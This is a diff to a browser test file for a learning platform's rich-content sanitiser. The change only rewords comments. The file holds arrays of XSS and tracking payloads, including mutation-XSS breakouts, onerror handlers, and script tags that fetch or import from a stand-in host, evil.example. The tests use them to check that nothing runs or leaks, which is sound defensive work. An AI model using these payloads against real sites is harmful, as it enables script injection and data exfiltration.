@@ -5,10 +5,10 @@ import { complaints, signIn } from './people';
 
 const content = `/learn/courses/${idOf('course', 'GEO-145')}/view/content`;
 const EVIL = 'https://evil.example';
-/** The call for what a part holds. */
+/** The call for the content of a part. */
 const CONTENT = /\/activity\/[^/]+\/content$/;
 
-/** Answers the content of every part with a text, and the settings with what is given; the rest is the platform's own. */
+/** Replaces the content of all parts by a text, and adds settings; all other responses are the platform's. */
 async function write(page: Page, html: string, settings: Record<string, unknown> = {}) {
   await page.route(CONTENT, async (route) => {
     const answer = await route.fetch();
@@ -21,7 +21,7 @@ async function write(page: Page, html: string, settings: Record<string, unknown>
   });
 }
 
-/** Requests that leave the browser for anywhere but the demo itself; they end here. What a policy refuses never comes so far. */
+/** Collects and aborts requests to other hosts than the demo. Requests that a policy blocks don't get here. */
 async function foreign(page: Page): Promise<string[]> {
   const asked: string[] = [];
   const isOwn = (url: string) => Object.values(hosts).some((host) => url.startsWith(`${host}/`));
@@ -35,7 +35,7 @@ async function foreign(page: Page): Promise<string[]> {
   return asked;
 }
 
-/** What authors may write to make a reader's browser call elsewhere. */
+/** Markup that tries to make the reader's browser send requests. */
 const tracking = [
   `<img src="${EVIL}/1.png">`,
   `<img src="//evil.example/2.png" srcset="${EVIL}/3.png 1x, ${EVIL}/4.png 2x">`,
@@ -67,14 +67,14 @@ const tracking = [
   `<div class="gallery"><img src="${EVIL}/66.png"><img src="${EVIL}/67.png"></div><span class="math">\\url{${EVIL}/68}</span>`,
 ];
 
-/** The same, in markup that swallows all that comes after it. */
+/** The same, in markup that includes all text after it. */
 const swallowing = [
   `<noscript><p title="</noscript><img src='${EVIL}/59.png'>"></noscript><template><img src="${EVIL}/60.png"></template>`,
   `<frameset><frame src="${EVIL}/42"></frameset>`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src='${EVIL}/58.png' onerror=alert(1)&gt;">`,
 ];
 
-/** What would run, or take the page over. */
+/** Markup that tries to run scripts or to take over the page. */
 const running = [
   `<script>window.pwned = 1; fetch('${EVIL}/s1')</script><script src="${EVIL}/s2.js"></script><script type=module>import '${EVIL}/s3.js'</script>`,
   `<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"></svg><details open ontoggle="window.pwned = 1"></details>`,
@@ -101,7 +101,7 @@ test('[RCV-08] nothing that an author writes reaches another origin or runs in t
   await expect(
     page.locator('.rich-content').locator('style, script, link, meta, base, form, object, embed'),
   ).toHaveCount(0);
-  // The browser tells of handlers and bases as soon as they are parsed, in a document that nobody sees.
+  // The browser reports inline handlers and bases when they are parsed, even in an inert document.
   expect(heard.filter((text) => !/inline event handler|base URI/.test(text))).toEqual([]);
   for (const html of swallowing) {
     await page.unroute(CONTENT);
@@ -176,7 +176,7 @@ test('[RCV-08] scripts being on, they run in a frame that reaches neither page, 
   expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
   expect(asked).toEqual([]);
   expect(new URL(page.url()).origin).toBe(hosts.learn);
-  // What the frame's own policy refused is told by the frame; the page has nothing to complain of.
+  // The frame reports violations of its own policy; the page has none.
   const own = heard.filter(
     (text) => !/evil\.example|connect-src|Refused to connect|inline event handler|base URI/.test(text),
   );
